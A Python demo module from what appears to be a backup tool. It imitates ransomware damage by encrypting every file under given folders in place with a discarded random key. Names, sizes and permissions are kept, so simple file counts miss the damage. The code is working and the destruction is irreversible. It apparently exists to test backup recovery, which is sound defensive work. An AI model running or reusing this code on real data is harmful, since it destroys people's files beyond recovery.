"""``python -m snapvault.demo.damage FOLDER...``: what ransomware does, and nothing else.

The bytes of every file are overwritten in place by their encryption, with a key that nobody keeps.  Names, sizes and
modes stay, nothing is made and nothing is removed, so that whoever only counts files sees nothing.
"""

import json
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

PIECE = 1 << 20


def encrypt_in_place(path: Path) -> int:
    """Overwrite one file; how many bytes."""
    encryptor = Cipher(algorithms.AES(os.urandom(32)), modes.CTR(os.urandom(16))).encryptor()
    mode, done = path.stat().st_mode, 0
    path.chmod(mode | stat.S_IRUSR | stat.S_IWUSR)
    with path.open("r+b", buffering=0) as f:
        while piece := f.read(PIECE):
            f.seek(done)
            f.write(encryptor.update(piece))
            done += len(piece)
    path.chmod(mode)
    return done


def files(folder: Path) -> Iterator[Path]:
    """All regular files below a folder; links are not followed."""
    for top, _, names in os.walk(folder):
        found = (Path(top, name) for name in sorted(names))
        yield from (path for path in found if stat.S_ISREG(path.lstat().st_mode))


def encrypt_all(folder: Path) -> tuple[int, int]:
    """Overwrite all files below a folder; how many, and how many bytes."""
    sizes = [encrypt_in_place(path) for path in files(folder)]
    return len(sizes), sum(sizes)


if __name__ == "__main__":
    done = [encrypt_all(Path(folder)) for folder in sys.argv[1:]]
    print(json.dumps({"files": sum(files for files, _ in done), "bytes": sum(size for _, size in done)}))
